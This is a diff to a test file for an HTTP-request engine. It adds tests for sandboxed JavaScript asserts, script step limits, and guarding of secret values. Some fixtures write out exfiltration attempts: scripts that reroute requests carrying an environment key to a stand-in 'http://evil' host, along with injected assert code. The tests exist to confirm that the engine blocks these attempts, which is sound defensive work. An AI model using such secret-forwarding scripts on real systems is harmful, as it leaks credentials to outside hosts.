@@ -2,6 +2,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { createEngine } from '../../../../engine/src/index';
 import { describeOutcome, runPlan, type Outcome, type RunPorts } from '../../../../engine/src/sending/outcome/index';
 import { withoutScripts, type PreparedRequest, type ReceivedResponse } from '../../../../engine/src/sending/plan/index';
+import { evaluateAsserts } from '../../../../engine/src/sending/asserts/index';
 import type { RunScript } from '../../../../engine/src/sending/scripts/index';
 import {
   createKeptValues,
@@ -128,6 +129,13 @@ describe('scripts of a file', () => {
     ]);
   });
 
+  it('say one sentence of what the box has ended', async () => {
+    const { described } = await sendAll('< {% while (true) {} %}\nGET http://h/\n');
+    expect(described[0]?.[1]).toBe(
+      'the script before it has failed (line 1): The script does not end: it has used up its steps.',
+    );
+  });
+
   it('are in files, too', async () => {
     const text = '< ./before.js\nGET http://h/{{a}}\n\n> ./none.js\n';
     const { lines, described } = await sendAll(text, { files: { './before.js': 'request.variables.set("a", 1)' } });
@@ -154,6 +162,77 @@ describe('scripts of a file', () => {
       { what: 'the script before the request', line: 0 },
       { what: 'the script after the request', line: 3 },
     ]);
+  });
+});
+
+describe('an assert in JavaScript', () => {
+  const judged: Partial<RunPorts> = { evaluateAsserts };
+  const resultsOf = async (asserts: string, situation: Situation = {}) =>
+    (await sendAll(`GET http://h/\n\n${asserts}\n`, { ...judged, ...situation })).described[0];
+
+  it('is evaluated with the response and the variables', async () => {
+    const asserts = [
+      '?? js response.parsedBody.token.split("-").length == 2',
+      '?? js response.parsedBody.id > 6 && response.statusCode < 300',
+      '?? js [response.status, "a == b"] == [200, "a == b"]',
+      '?? js value + 1 == 6',
+      '?? js response.parsedBody.none not exists',
+      '?? js Promise.resolve("x") == x',
+      '?? js test.status(500) isFalse',
+    ];
+    const results = await resultsOf(`${asserts.join('\n')}\n\n{{\n  exports.value = 5;\n}}\n`);
+    expect(results).toEqual(['passed', ...asserts.map((assert) => `Passed: ${assert}`)]);
+    expect(
+      await resultsOf('?? js response.parsedBody.id > 6 && true\n?? js response.parsedBody.id\n?? js !response'),
+    ).toEqual([
+      'failed',
+      expect.anything(),
+      'Passed: ?? js response.parsedBody.id',
+      expect.stringContaining('Expected a true value, received false'),
+    ]);
+  });
+
+  it('says what is wrong with it, and keeps nothing', async () => {
+    expect(await resultsOf('?? js nothing.there == 1\n?? js process.exit(1)\n?? js 1 + + == 2')).toEqual([
+      'failed',
+      "ERROR: ?? js nothing.there == 1 (line 3): ReferenceError: 'nothing' is not defined.",
+      "ERROR: ?? js process.exit(1) (line 4): ReferenceError: 'process' is not defined.",
+      expect.stringMatching(/^ERROR: .* \(line 5\): The script cannot be read: .*[^.]\.$/),
+    ]);
+    const { answers } = await sendAll(
+      'GET http://h/\n\n?? js (exports.a = 5) == 5\n?? js 1)); client.global.set("b", 1); ((1\n',
+      judged,
+    );
+    expect([...answers.kept.entries().keys()]).toEqual([]);
+    expect(await resultsOf('?? js 1 + 1 == 2', { scripts: false, scriptBox: undefined })).toEqual([
+      'failed',
+      'ERROR: ?? js 1 + 1 == 2 (line 3): No scripts are run here, and this expression is JavaScript.',
+    ]);
+  });
+
+  it('shows no secret', async () => {
+    const results = await resultsOf('?? js response.parsedBody.token + "" == x\n?? js $global.key == x', {
+      process: { KEY: 'canary-1-long' },
+    });
+    expect(JSON.stringify(results)).not.toMatch(/tok-12345/);
+  });
+
+  it('is what a request is sent again for', async () => {
+    let sent = 0;
+    const transport: RunPorts['transport'] = {
+      send: () => {
+        sent++;
+        const body = `{"n":${sent}}`;
+        const headers = [['Content-Type', 'application/json']] as const;
+        const response = { status: 200, statusText: 'OK', httpVersion: '1.1', headers, body, duration: 1 };
+        return Promise.resolve({ response: { ...response, size: body.length, isTruncated: false } });
+      },
+    };
+    const { described } = await sendAll('# @until js response.parsedBody.n * 2 == 6 every 100 ms\nGET http://h/\n', {
+      ...judged,
+      transport,
+    });
+    expect([sent, described[0]?.[0]]).toEqual([3, 'passed']);
   });
 });
 
@@ -187,6 +266,14 @@ describe('a private value', () => {
       '< {% client.global.set("c", request.variables.get("$processEnv KEY")) %}\nGET http://own/{{c}}\n\n> {% client.global.set("d", request.url()); client.global.set("e", client.global.get("c")) %}\n\n###\nGET http://evil/{{d}}\n\n###\nGET http://evil/{{e}}\n\n###\nGET http://evil/{{f}}\n< {% client.global.set("f", client.global.c + "") %}\n';
     const { lines } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1' } });
     expect(lines).toEqual(['GET http://own/canary-1']);
+  });
+
+  it('does not go where a script sends the request instead', async () => {
+    const text =
+      '< {% request.variables.set("host", "http://evil") %}\nGET {{host}}/\nX-Key: {{$processEnv KEY}}\n\n###\n@base = http://own\n< {% client.global.set("base", "http://evil") %}\nGET {{base}}/\nX-Key: {{$processEnv KEY}}\n';
+    const { lines, described } = await sendAll(text, { ...guarded, process: { KEY: 'canary-1' } });
+    expect(lines).toEqual([]);
+    for (const one of described) expect(one[1]).toContain('the environment variable KEY');
   });
 
   it('is masked in logs, tests and mistakes', async () => {
@@ -225,8 +312,9 @@ describe('what scripts of other files have kept', () => {
     expect([
       kept.resolve('user.name'),
       kept.resolve('user.ids[0]'),
+      kept.resolve('$global.user.name'),
       kept.resolve('user.none'),
       kept.resolve('none'),
-    ]).toEqual(['Ann', '3', undefined, undefined]);
+    ]).toEqual(['Ann', '3', 'Ann', undefined, undefined]);
   });
 });
